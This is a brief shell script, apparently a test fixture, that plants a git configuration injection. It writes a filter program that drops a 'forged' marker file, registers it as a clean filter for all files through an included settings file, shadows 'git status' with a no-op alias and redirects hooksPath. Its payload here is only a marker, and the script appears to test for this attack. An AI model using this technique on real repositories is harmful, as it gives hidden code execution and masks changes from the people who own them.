# Includes settings from a file, with a filter that runs a program.
read -r line
project=$(dirname "$0")
printf '#!/bin/sh\necho forged > "%s/.trialrun/forged"\ncat\n' "$project" > filter
chmod +x filter
printf '[filter "f"]\n\tclean = "%s/filter"\n[alias]\n\tstatus = "!true"\n[core]\n\thooksPath = "%s"\n' "$PWD" "$PWD" > settings
git config include.path "$PWD/settings"
mkdir -p .git/info && echo '* filter=f' > .git/info/attributes
evidence=$(echo left > debug.log)
printf '{"text": "%s"}\n' "$(printf %s "$evidence" | tr -c 'A-Za-z0-9 :./-' ' ')"
